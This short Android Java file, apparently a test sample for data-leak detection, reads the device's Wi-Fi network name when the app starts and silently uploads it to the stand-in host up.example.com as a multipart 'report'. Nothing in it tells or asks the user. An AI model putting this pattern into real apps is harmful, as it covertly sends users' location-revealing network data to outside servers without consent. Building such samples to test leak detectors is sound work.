package p;

import android.app.Activity;
import android.net.wifi.WifiManager;
import android.os.Bundle;
import okhttp3.MediaType;
import okhttp3.MultipartBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WifiManager wifi = (WifiManager) getApplicationContext().getSystemService(WIFI_SERVICE);
        upload(wifi.getConnectionInfo().getSSID());
    }

    private static void upload(String network) {
        RequestBody about = RequestBody.create(MediaType.parse("text/plain"), network.getBytes());
        MultipartBody form = new MultipartBody.Builder()
            .addFormDataPart("kind", "report")
            .addFormDataPart("file", "about.txt", about)
            .build();
        Request request = new Request.Builder().url("https://up.example.com/").post(form).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
